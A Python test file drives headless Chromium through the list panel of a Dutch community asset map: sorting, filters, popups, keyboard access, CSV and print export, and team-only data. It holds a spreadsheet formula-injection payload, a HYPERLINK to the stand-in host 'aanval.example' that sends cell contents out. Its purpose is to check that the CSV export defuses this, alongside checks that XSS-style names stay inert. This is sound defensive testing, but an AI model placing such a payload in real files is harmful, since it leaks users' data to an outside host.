"""The list beside the map (issue 13, item 2) in headless Chromium: rows, sorting, filters,
popups both ways, keyboard, CSV export, the print page, publiek against team, hostile names.

The small test town of tests/test_map.py (make_inputs, through the privacy gate) has seven assets. In publiek the list
holds five of them: A06 (a bench) sits in a layer that is off, A07 is a person without
consent. In team the person is there too, and the list has a column "Laatste contact".

Skipped when Chromium is missing, except on CI (env CI=true), where that fails.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess

import pytest

from abcd_map.render.map import render_map, save_map

from browser import Browser, require_chromium
from test_map import HOSTILE, make_inputs

pytestmark = [pytest.mark.browser, pytest.mark.slow]

PUBLIEK_NAMES = ["Bakkerij Brood & Zo", "Buurthuis De Linde", "Koor Zingende Buren", "Speeltuin Het Klimrek",
                 "Verhalenkring"]
FORMULA = '=HYPERLINK("http://aanval.example/?"&A1;"klik")'


@pytest.fixture(scope="module", autouse=True)
def _need_chromium():
    require_chromium()


def _save(folder, name: str, mode: str = "publiek", hostile: bool = False, n_extra: int = 0,
          first_name: str | None = None):
    d = make_inputs(hostile, n_extra_assets=n_extra)
    if first_name is not None:
        d["assets"].loc[d["assets"].index[0], "naam"] = first_name
    m = render_map(d["buurten"], d["wijken"], d["assets"], gaps=d["gaps"], relations=d["relations"],
                 welcoming=d["welcoming"], meta=d["meta"], mode=mode)
    return save_map(m, folder / name)


@pytest.fixture(scope="module")
def maps(tmp_path_factory):
    folder = tmp_path_factory.mktemp("lijst")
    return {"publiek": _save(folder, "publiek.html"), "team": _save(folder, "team.html", mode="team"),
            "formule": _save(folder, "formule.html", first_name=FORMULA)}


@pytest.fixture(scope="module")
def browser():
    b = Browser(1400, 900)
    yield b
    b.close()


def _open_list(b: Browser, path) -> None:
    b.open(path)
    b.eval("ABCD.panel('list', true)")
    b.wait_until("document.querySelectorAll('#abcd-list-table tbody tr').length > 0")


def _names(b: Browser) -> list[str]:
    return b.eval("Array.from(document.querySelectorAll('#abcd-list-table tbody tr')).map(function(r){"
                  "return r.querySelector('th').textContent;})")


def _heads(b: Browser) -> list[str]:
    return b.eval("Array.from(document.querySelectorAll('#abcd-list-table thead th')).map(function(t){"
                  "return t.textContent;})")


def _status(b: Browser) -> str:
    return b.eval("document.querySelector('.abcd-list-status').textContent")


def _popup_title(b: Browser) -> str:
    return b.wait_until("(function(){var h = document.querySelector('.leaflet-popup-content h3');"
                        "return h ? h.textContent : '';})()")


def _centre_of(b: Browser, expression: str) -> tuple[float, float]:
    """Centre of an element on screen, scrolled into view first (a row may sit below the list's fold)."""
    b.eval(f"({expression}).scrollIntoView({{block: 'nearest'}})")
    r = json.loads(b.eval(f"JSON.stringify(({expression}).getBoundingClientRect())"))
    return r["x"] + r["width"] / 2, r["y"] + r["height"] / 2


def _csv(b: Browser) -> tuple[bytes, list[list[str]]]:
    """Click 'CSV' with URL.createObjectURL caught; the file's bytes and its rows."""
    b.eval("if (!window.__blobs) { var make = URL.createObjectURL;"
           " URL.createObjectURL = function (blob) { window.__blobs.push(blob); return make.call(URL, blob); }; }"
           "window.__blobs = []; document.getElementById('abcd-list-csv').click()")
    data = bytes(b.eval("window.__blobs[0].arrayBuffer().then(function(a){return Array.from(new Uint8Array(a));})",
                        await_promise=True))
    text = data.decode("utf-8-sig")
    return data, list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_list_shows_the_places_in_view_sorted_by_distance(browser, maps):
    _open_list(browser, maps["publiek"])
    assert sorted(_names(browser)) == PUBLIEK_NAMES
    assert _status(browser) == "5 in beeld"
    assert _heads(browser) == ["Naam", "Categorie", "Buurt", "Afstand"]
    assert browser.eval("document.querySelector('#abcd-list-table caption').textContent").startswith("Plekken en mensen")
    # sorted by distance to the centre of the view at first, nearest on top, in metres in Dutch
    dist = browser.eval("Array.from(document.querySelectorAll('#abcd-list-table tbody td.abcd-list-num')).map("
                        "function(t){return t.textContent;})")
    assert all(d.endswith(" m") for d in dist)
    metres = [int(d[:-2].replace(".", "")) for d in dist]
    assert metres == sorted(metres)
    # zoomed in on one place: only the places inside the view stay in the list
    browser.eval("var a = ABCD.visible().filter(function(x){return x.naam === 'Verhalenkring';})[0];"
                 "ABCD.leaflet().setView([a.lat, a.lon], 19, {animate: false}); 0")
    browser.wait_until("document.querySelectorAll('#abcd-list-table tbody tr').length === 1")
    assert _names(browser) == ["Verhalenkring"]
    assert browser.eval("document.querySelector('#abcd-list-table tbody td.abcd-list-num').textContent") == "0 m"
    assert browser.errors() == []


def test_sorting_by_name_and_back(browser, maps):
    _open_list(browser, maps["publiek"])
    browser.eval("document.querySelector('th[data-key=naam] button').click()")
    assert _names(browser) == PUBLIEK_NAMES
    assert browser.eval("document.querySelector('th[data-key=naam]').getAttribute('aria-sort')") == "ascending"
    assert browser.eval("document.querySelector('th[data-key=afstand]').hasAttribute('aria-sort')") is False
    browser.eval("document.querySelector('th[data-key=naam] button').click()")
    assert _names(browser) == PUBLIEK_NAMES[::-1]
    assert browser.eval("document.querySelector('th[data-key=naam]').getAttribute('aria-sort')") == "descending"
    browser.eval("document.querySelector('th[data-key=categorie] button').click()")
    cats = browser.eval("Array.from(document.querySelectorAll('#abcd-list-table tbody tr')).map(function(r){"
                        "return r.children[1].textContent;})")
    assert cats == sorted(cats, key=str.lower)


def test_filters_and_layers_reduce_the_rows(browser, maps):
    _open_list(browser, maps["publiek"])
    browser.eval("ABCD.panel('filters', true); var c = document.getElementById('abcd-filter-inloop');"
                 "c.checked = true; c.dispatchEvent(new Event('change'))")
    browser.wait_until("document.querySelectorAll('#abcd-list-table tbody tr').length === 3")
    assert sorted(_names(browser)) == ["Buurthuis De Linde", "Speeltuin Het Klimrek", "Verhalenkring"]
    # a layer switched off: its places leave the list
    browser.eval("Array.from(document.querySelectorAll('.leaflet-control-layers label')).filter(function(l){"
                 "return l.textContent.indexOf('Cultuur') >= 0;})[0].querySelector('input').click()")
    browser.wait_until("document.querySelectorAll('#abcd-list-table tbody tr').length === 2")
    assert sorted(_names(browser)) == ["Buurthuis De Linde", "Speeltuin Het Klimrek"]
    assert _status(browser) == "2 in beeld"


def test_row_click_opens_its_popup_and_marks_the_row(browser, maps):
    _open_list(browser, maps["publiek"])
    x, y = _centre_of(browser, "Array.from(document.querySelectorAll('.abcd-list-name')).filter(function(b){"
                               "return b.textContent === 'Koor Zingende Buren';})[0]")
    zoom = browser.eval("ABCD.leaflet().getZoom()")
    browser.click(x, y)
    assert _popup_title(browser) == "Koor Zingende Buren"
    assert browser.eval("ABCD.leaflet().getZoom()") == zoom   # on screen on its own: no zoom, the list stays
    browser.wait_until("document.querySelector('tr.abcd-list-current') !== null")
    assert browser.eval("document.querySelector('tr.abcd-list-current th').textContent") == "Koor Zingende Buren"
    assert browser.eval("document.querySelector('tr.abcd-list-current').getAttribute('aria-current')") == "true"
    browser.key("Escape")  # closes the popup: the mark goes
    browser.wait_until("document.querySelector('tr.abcd-list-current') === null")


def test_a_popup_opened_on_the_map_marks_its_row(browser, maps):
    _open_list(browser, maps["publiek"])
    browser.eval("var s = document.getElementById('abcd-search'); s.focus()")
    browser.type_text("Speeltuin")
    browser.key("Enter")
    assert _popup_title(browser) == "Speeltuin Het Klimrek"
    browser.wait_until("(function(){var r = document.querySelector('tr.abcd-list-current');"
                       "return r && r.querySelector('th').textContent === 'Speeltuin Het Klimrek';})()")
    # the marked row is inside the list's scroll box
    assert browser.eval("(function(){var r = document.querySelector('tr.abcd-list-current').getBoundingClientRect();"
                        "var b = document.querySelector('.abcd-list-scroll').getBoundingClientRect();"
                        "return r.top >= b.top - 1 && r.bottom <= b.bottom + 1;})()") is True


def test_keyboard_tab_reaches_the_list_and_enter_opens_a_popup(browser, maps):
    browser.open(maps["publiek"])
    browser.eval("document.activeElement && document.activeElement.blur()")

    def tab_to(expression: str) -> None:
        for _ in range(80):
            browser.key("Tab")
            if browser.eval(expression):
                return
        raise AssertionError("Tab kwam niet bij " + expression)

    tab_to("document.activeElement === document.querySelector('.abcd-list .abcd-panel-head')")
    browser.key("Enter")                       # the head button opens the panel
    assert browser.eval("ABCD.panels().list") is True
    browser.wait_until("document.querySelectorAll('#abcd-list-table tbody tr').length > 0")
    tab_to("document.activeElement.classList.contains('abcd-list-name')")
    name = browser.eval("document.activeElement.textContent")
    browser.key("Enter")
    assert _popup_title(browser) == name
    # the list was drawn anew for the new view: the focus stays on that place's row
    browser.wait_until("document.activeElement.classList.contains('abcd-list-name')")
    assert browser.eval("document.activeElement.textContent") == name


def test_a_skip_link_takes_the_keyboard_past_the_markers_into_the_list(browser, maps):
    browser.open(maps["publiek"])
    browser.eval("document.activeElement && document.activeElement.blur()")
    for _ in range(3):
        browser.key("Tab")
        if browser.eval("document.activeElement.id") == "abcd-skip-list":
            break
    assert browser.eval("document.activeElement.textContent") == "Naar de lijst van plekken in beeld"
    browser.key("Enter")
    assert browser.eval("ABCD.panels().list") is True
    assert browser.eval("document.activeElement.classList.contains('abcd-list-name')") is True
    browser.key("Enter")
    assert _popup_title(browser) == browser.eval("document.activeElement.textContent")


def test_csv_has_exactly_the_columns_shown_and_defuses_formulas(browser, maps):
    _open_list(browser, maps["formule"])
    data, rows = _csv(browser)
    assert data[:3] == b"\xef\xbb\xbf"               # BOM: Excel reads UTF-8
    assert rows[0] == ["naam", "categorie", "buurt", "afstand_m", "lat", "lon"]
    assert len(rows) == 6
    names = [r[0] for r in rows[1:]]
    assert "'" + FORMULA in names                    # an apostrophe first: text, not a formula
    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)
    cats = {r[1] for r in rows[1:]}
    assert "Instellingen" in cats or "Economie" in cats
    lat = rows[1][4]
    assert "," in lat and "." not in lat             # decimal comma, as the other CSV files
    assert "laatste" not in data.decode("utf-8-sig").lower()


def test_team_list_has_last_contact_and_its_mark_publiek_not(browser, maps):
    _open_list(browser, maps["team"])
    assert _heads(browser) == ["Naam", "Categorie", "Buurt", "Afstand", "Laatste contact"]
    assert "Jan de Klusser" in _names(browser)       # the person: team only
    assert _status(browser) == "6 in beeld"
    _, rows = _csv(browser)
    assert rows[0] == ["let_op", "naam", "categorie", "buurt", "afstand_m", "laatste_contact", "lat", "lon"]
    assert {r[0] for r in rows[1:]} == {"TEAM — niet delen"}
    assert {r[5] for r in rows[1:]} == {"2020-01-15"}
    browser.eval("document.querySelector('th[data-key=laatste_contact] button').click()")
    assert browser.eval("document.querySelector('th[data-key=laatste_contact]').getAttribute('aria-sort')") \
        == "ascending"
    _open_list(browser, maps["publiek"])
    assert "Laatste contact" not in _heads(browser)
    assert "Jan de Klusser" not in _names(browser)
    assert browser.eval("'laatste_contact' in ABCD_DATA.assets.cols") is False


def test_print_puts_the_list_on_its_own_page_after_the_map(browser, maps, tmp_path):
    _open_list(browser, maps["team"])
    browser.eval("ABCD.leaflet().setZoom(ABCD.leaflet().getZoom() + 1, {animate: false}); 0")  # fitted back for paper
    pdf = browser.print_pdf(tmp_path / "kaart.pdf")
    raw = pdf.read_bytes()
    assert len(re.findall(rb"/Type\s*/Page(?!s)", raw)) >= 2
    section = "document.getElementById('abcd-print-list')"
    assert browser.eval(f"{section}.querySelectorAll('tbody tr').length") == 6
    text = browser.eval(f"{section}.textContent")
    assert "TEAM — niet delen" in text and "FICTIEF" in text and "Laatste contact" in text
    pdftotext = shutil.which("pdftotext")
    if pdftotext:
        out = subprocess.run([pdftotext, "-f", "2", "-l", "2", str(pdf), "-"], capture_output=True, text=True,
                             check=True).stdout
        assert "Verhalenkring" in out and "Jan de Klusser" in out
        first = subprocess.run([pdftotext, "-f", "1", "-l", "1", str(pdf), "-"], capture_output=True, text=True,
                               check=True).stdout
        assert "Verhalenkring" not in first
    browser.emulate_media("print")
    assert browser.eval("getComputedStyle(document.querySelector('.abcd-list')).display") == "none"
    assert browser.eval(f"getComputedStyle({section}).display") == "block"
    browser.emulate_media("")
    assert browser.eval(f"getComputedStyle({section}).display") == "none"


def test_many_places_drawn_200_at_a_time(tmp_path):
    path = _save(tmp_path, "veel.html", n_extra=450)
    with Browser(1400, 900) as b:
        _open_list(b, path)
        n = b.eval("ABCD_LIST.rows().length")
        assert n > 400
        assert len(_names(b)) == 200
        assert _status(b) == f"200 van {n} in beeld"
        more = "document.querySelector('.abcd-list-more')"
        assert b.eval(f"{more}.hidden") is False
        b.eval(f"{more}.click()")
        assert len(_names(b)) == 400
        assert b.eval("document.activeElement.textContent") == _names(b)[200]   # focus on the first new row
        _, rows = _csv(b)
        assert len(rows) == n + 1                          # the export holds all in view, not only those drawn
        assert b.errors() == []


def test_on_a_phone_the_list_is_a_panel_of_the_bottom_sheet(maps):
    with Browser(390, 844) as b:
        b.open(maps["publiek"])
        assert b.eval("document.querySelector('.abcd-list').parentNode.classList.contains('abcd-sheet')") is True
        assert b.eval("ABCD.panels().list") is False
        b.eval("ABCD.panel('filters', true); ABCD.panel('list', true)")
        assert b.eval("ABCD.panels().filters") is False    # one panel of the sheet open at a time
        b.wait_until("document.querySelectorAll('#abcd-list-table tbody tr').length > 0")
        name = _names(b)[0]
        b.eval("document.querySelector('.abcd-list-name').click()")
        assert _popup_title(b) == name
        assert b.eval("ABCD.panels().list") is False       # folded: the sheet does not cover the popup
        assert b.eval("document.activeElement === document.querySelector('.abcd-list .abcd-panel-head')") is True
        assert b.errors() == []


def test_presentation_mode_folds_the_list(browser, maps):
    _open_list(browser, maps["publiek"])
    browser.eval("ABCD.present(true)")
    assert browser.eval("ABCD.panels().list") is False
    browser.eval("ABCD.present(false)")
    assert browser.eval("ABCD.panels().list") is True


def test_hostile_names_stay_text_in_the_list_csv_and_print(tmp_path):
    path = _save(tmp_path, "vijandig.html", mode="team", hostile=True)
    with Browser(1400, 900) as b:
        _open_list(b, path)
        names = _names(b)
        assert set(names) <= set(HOSTILE)
        assert HOSTILE[0] in names or HOSTILE[1] in names
        for key in ("naam", "categorie", "buurt", "afstand", "laatste_contact"):
            b.eval(f"document.querySelector('th[data-key={key}] button').click()")
        b.eval("window.__view = [ABCD.leaflet().getCenter(), ABCD.leaflet().getZoom()]")
        for i in b.eval("ABCD_LIST.rows()"):
            # back to the first view (a click zooms in on its place), then click row i
            b.eval("ABCD.leaflet().closePopup(); ABCD.leaflet().setView(__view[0], __view[1], {animate: false}); 0")
            row = f"document.querySelector('#abcd-list-table tr[data-i=\"{i}\"] button')"
            b.wait_until(f"{row} !== null")
            b.eval(f"{row}.click()")
            b.wait_until("document.querySelector('.leaflet-popup-content h3') !== null")
        _, rows = _csv(b)
        assert {r[1] for r in rows[1:]} <= {("'" + h if h[0] in "=+-@" else h) for h in HOSTILE}
        b.eval("window.dispatchEvent(new Event('beforeprint'))")
        b.wait_until("document.getElementById('abcd-print-list') !== null")
        assert b.eval("typeof window.__xss") == "undefined"
        assert b.eval("document.querySelectorAll('img[src=\"x\"], svg[onload]').length") == 0
        assert [e for e in b.errors() if "exception" in e] == []


def test_a_map_without_places_has_no_list(tmp_path):
    d = make_inputs()
    path = save_map(render_map(d["buurten"], d["wijken"], None, meta=d["meta"]), tmp_path / "leeg.html")
    with Browser(1400, 900) as b:
        b.open(path)
        assert "list" not in b.eval("ABCD.panels()")
        assert b.eval("document.querySelector('.abcd-list')") is None
        assert b.errors() == []
